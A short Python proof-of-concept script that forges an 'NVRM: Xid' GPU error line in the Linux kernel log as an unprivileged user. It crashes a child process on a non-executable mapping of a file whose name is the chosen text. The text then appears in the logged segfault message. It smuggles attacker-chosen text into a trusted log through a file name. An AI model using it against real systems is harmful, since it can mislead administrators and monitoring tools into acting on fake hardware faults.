"""Put an ``NVRM: Xid`` line into the kernel log as an unprivileged user, without writing /dev/kmsg.

The kernel logs a process's unhandled SIGSEGV as
    COMM[PID]: segfault at ADDR ip IP sp SP error E in FILE[START+LEN] likely on CPU ...
where FILE is the base name of the file mapped at the faulting instruction: up to 255 bytes that
whoever names the file chooses. A file named like an XID line, mapped readable but not executable
and jumped into, puts one into the kernel log.

    python3 forge_xid.py DIR TEXT   (TEXT: the file's name, no '/')

The fault happens in a child (it dies of SIGSEGV); this prints "child PID: signal 11".
"""
import ctypes
import mmap
import os
import sys


def fault(path: str) -> None:
    fd = os.open(path, os.O_RDONLY)
    m = mmap.mmap(fd, 4096, prot=mmap.PROT_READ)  # readable, not executable: the first fetch faults
    name = os.path.basename(path)
    with open("/proc/self/maps") as f:
        start = next(int(line.split("-", 1)[0], 16) for line in f if line.rstrip("\n").endswith(name))
    ctypes.CFUNCTYPE(None)(start)()
    del m


if __name__ == "__main__":
    directory, text = sys.argv[1], sys.argv[2]
    if "/" in text:
        raise SystemExit("a file name cannot hold '/'")
    path = os.path.join(directory, text)
    with open(path, "wb") as f:
        f.write(b"\0" * 4096)
    pid = os.fork()
    if pid == 0:
        try:
            fault(path)
        finally:
            os._exit(99)
    _, status = os.waitpid(pid, 0)
    os.unlink(path)
    print(f"child {pid}: signal {os.WTERMSIG(status) if os.WIFSIGNALED(status) else None}")
